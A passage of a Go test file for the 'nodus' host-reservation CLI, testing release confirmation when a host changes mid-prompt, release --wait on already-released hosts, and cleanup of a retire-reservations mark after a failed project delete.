				if r := do(t, s.Config, "PATCH", "/apis/nodus.dev/v1/namespaces/acme/reservedhosts/"+tc.name, "application/merge-patch+json",
					strings.NewReader(tc.meanwhile)); r.code != http.StatusOK {
					t.Fatalf("writing the host: %d %s", r.code, r.body)
				}
				return
			}
			// A new epoch: a member with SSH access removed from the project.
			epoch := f.reservation(t, tc.name).Status.Epoch
			p, err := s.Client.NodusV1().Projects().Get(ctx(t), "acme", metav1.GetOptions{})
			if err != nil {
				t.Fatal(err)
			}
			p.Spec.Members = slices.DeleteFunc(p.Spec.Members, func(m nodusv1.ProjectMember) bool { return m.Name == "mary" })
			if _, err := s.Client.NodusV1().Projects().Update(ctx(t), p, metav1.UpdateOptions{}); err != nil {
				t.Fatal(err)
			}
			f.waitHost(t, tc.name, func(h *nodusv1.ReservedHost) bool { return h.Status.Reservation.Epoch > epoch })
		}
		var out bytes.Buffer
		cmd, g := cli.NewCommand(cli.Streams{In: &typedAfter{before: meanwhile, line: tc.name + "\n"}, Out: &out, Err: &out})
		cmd.SetArgs([]string{"--kubeconfig", alice.config, "release", "acme/" + tc.name})
		code := cli.Report(cmd.Execute(), g.Output, &out)
		state := f.reservation(t, tc.name).Status.State
		switch {
		case tc.released && (code != 0 || state != nodusv1.ReservationStateReleasing && state != nodusv1.ReservationStateReleased):
			t.Errorf("%s: the host written while its release was confirmed, nothing shown changed: exit %d, state %s\n%s", tc.name, code, state, out.String())
		case !tc.released && (code != cli.ExitConflict || state != nodusv1.ReservationStateActive || !strings.Contains(out.String(), "changed while you confirmed")):
			t.Errorf("%s: the epoch moved while the release was confirmed: exit %d, state %s\n%s", tc.name, code, state, out.String())
		}
	}
	// A host already released is not asked about again: the server's
	// answer says so.
	if out, code := alice.run("", "release", "acme/kept"); code != cli.ExitConflict || strings.Contains(out, "Type the host name") || !strings.Contains(out, "already released") {
		t.Errorf("nodus release of a released host: exit %d\n%s", code, out)
	}
}

// TestCLIReleaseWaitsForAHostAlreadyReleased: a release --wait whose wait
// ran out (an agent slow to confirm) said only "not drained" and exited 1,
// and running it again to wait longer failed at once: the host was
// already released. The wait that ran out says what to run, and that run
// waits for the host as it is.
func TestCLIReleaseWaitsForAHostAlreadyReleased(t *testing.T) {
	s := testserver.StartTestServer(t)
	f := newFleet(t, s)
	now := time.Now()
	f.host(t, "slow", now.Add(-time.Hour), now.Add(time.Hour))
	alice := loggedIn(t, s, f.admin)
	out, code := alice.run("", "release", "acme/slow", "--yes", "--wait", "--timeout", "1s")
	if code != cli.ExitServer || !strings.Contains(out, "released acme/slow at epoch 2") ||
		!strings.Contains(out, "nodus release acme/slow --wait --timeout 30m") || !strings.Contains(out, "docs:    nodus errors NotDrained") {
		t.Errorf("a release whose agent did not confirm in time: exit %d, want %d with what to run next\n%s", code, cli.ExitServer, out)
	}
	// Run again, it waits until the agent's evidence drains the host.
	done := make(chan struct{})
	go func() {
		defer close(done)
		out, code = alice.run("", "release", "acme/slow", "--wait", "--timeout", "60s")
	}()
	time.Sleep(1500 * time.Millisecond)
	if r := f.heartbeat(t, "slow", nodusv1.NodeHeartbeat{AgentGeneration: 1, Reservations: []nodusv1.ReservationEvidence{evidence("slow", 2, 0, 0)}}); r.code != http.StatusOK {
		t.Fatalf("heartbeat: %d %s", r.code, r.body)
	}
	<-done
	if code != 0 || !strings.Contains(out, "already released") || !strings.Contains(out, "drained after") || strings.Contains(out, "Type the host name") {
		t.Errorf("release --wait of a host already released: exit %d, want 0 once drained\n%s", code, out)
	}
	// Without --wait it is refused, as before: nothing to do.
	if out, code := alice.run("", "release", "acme/slow"); code != cli.ExitConflict || !strings.Contains(out, "already released") {
		t.Errorf("release of a released host, without --wait: exit %d, want %d\n%s", code, cli.ExitConflict, out)
	}
}

// typedAfter is a person's answer: before runs when it is first read.
type typedAfter struct {
	before func()
	line   string
	done   bool
}

func (r *typedAfter) Read(p []byte) (int, error) {
	if !r.done {
		r.done = true
		r.before()
	}
	if r.line == "" {
		return 0, io.EOF
	}
	n := copy(p, r.line)
	r.line = r.line[n:]
	return n, nil
}

// TestCLIProjectDeleteThatFailsLeavesNoRetireMark: projects delete
// --retire-reservations marks the project (nodus.dev/retire-reservations)
// and then deletes it. When the delete failed (a 503, a dropped
// connection), the mark stayed, and a later plain delete, by anyone,
// retired every live reservation of the customer unasked.
func TestCLIProjectDeleteThatFailsLeavesNoRetireMark(t *testing.T) {
	s := testserver.StartTestServer(t)
	f := newFleet(t, s)
	now := time.Now()
	f.host(t, "gpu-001", now.Add(-time.Hour), now.Add(time.Hour))
	proxy := unavailableFor(t, s, http.MethodDelete, "/projects/acme")
	ops := loggedInTo(t, proxy.Host, proxy.CAData, tokenFor(t, s, "ops", auth.GroupOperators).BearerToken)
	if out, code := ops.run("", "projects", "delete", "acme", "--retire-reservations"); code != cli.ExitServer {
		t.Errorf("projects delete --retire-reservations whose delete failed: exit %d, want %d\n%s", code, cli.ExitServer, out)
	}
	p, err := s.Client.NodusV1().Projects().Get(ctx(t), "acme", metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if mark, ok := p.Annotations[nodusv1.AnnotationRetireReservations]; ok {
		t.Errorf("the project not deleted keeps %s=%q", nodusv1.AnnotationRetireReservations, mark)
	}
	if r := do(t, s.Config, "DELETE", "/apis/nodus.dev/v1/projects/acme", "", nil); r.code != http.StatusConflict {
		t.Errorf("a later plain delete of a project with a live reservation: %d %s, want 409 ProjectHasReservations", r.code, r.body)
	}
}
